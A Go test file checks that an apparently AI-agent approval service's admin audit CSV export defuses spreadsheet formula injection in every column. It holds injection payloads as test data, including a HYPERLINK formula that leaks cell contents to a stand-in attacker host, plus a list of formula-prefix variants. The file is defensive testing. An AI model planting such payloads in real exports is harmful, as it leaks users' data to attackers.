package handlers_test

import (
	"context"
	"encoding/csv"
	"net/http"
	"strings"
	"testing"
	"unicode"

	"github.com/countersign/countersign/approval"
	"github.com/countersign/countersign/db"
	"github.com/jackc/pgx/v5"
)

// formula reports whether a spreadsheet could read cell as a formula: it
// starts, after any leading white space, with one of = + - @ or a tab or
// carriage return.
func formula(cell string) bool {
	if strings.HasPrefix(cell, "\t") || strings.HasPrefix(cell, "\r") {
		return true
	}
	s := strings.TrimLeftFunc(cell, unicode.IsSpace)
	return s != "" && strings.ContainsRune("=+-@\t\r\uff1d\uff0b\uff0d\uff20", []rune(s)[0])
}

// TestAuditExportDefusesEveryCell: text from runtimes and people reaches
// the CSV export as text, in every column, never as a formula.
func TestAuditExportDefusesEveryCell(t *testing.T) {
	l := newLoop(t)
	ctx := context.Background()
	admin := l.NewBrowser()
	admin.SignIn("admin")

	// Through the API: ids a runtime chose.
	hyper := `=HYPERLINK("http://evil.example/?leak="&A1,"Open")`
	c := l.call("mail", "send_email", `{"to":"a@b.c"}`)
	c["conversation_id"], c["turn_id"] = hyper, "@SUM(1+1)"
	l.pending(t, c)

	// Every column at once, as any writer of the log could fill it.
	payloads := []string{"=1+1", "+1", "-1", "@x", "\t=1", "\r=1", " =1", "\u00a0=1", "\n=1", "\uff1d1+1"}
	for _, p := range payloads {
		ev := approval.AuditEvent{Actor: approval.Actor{Kind: approval.ActorAPIKey, ID: p, Name: p}, Action: p,
			Connector: p, Tool: p, ConversationID: p, TurnID: p, PlaybookID: p, RunID: p, ApprovalID: p}
		if err := l.DB.InTx(ctx, func(tx pgx.Tx) error { return db.RecordAudit(ctx, tx, ev) }); err != nil {
			t.Fatal(err)
		}
	}

	resp, body := admin.Get("/admin/audit.csv")
	if resp.StatusCode != http.StatusOK {
		t.Fatal(resp.StatusCode)
	}
	records, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	seen := map[string]bool{}
	for _, rec := range records {
		for i, cell := range rec {
			if formula(cell) {
				t.Errorf("column %s holds a live formula: %q", records[0][i], cell)
			}
			if strings.HasPrefix(cell, "'") {
				seen[cell[1:]] = true
			}
		}
	}
	for _, want := range append(payloads, hyper, "@SUM(1+1)") {
		if !seen[want] {
			t.Errorf("%q is not in the export as quoted text", want)
		}
	}
}
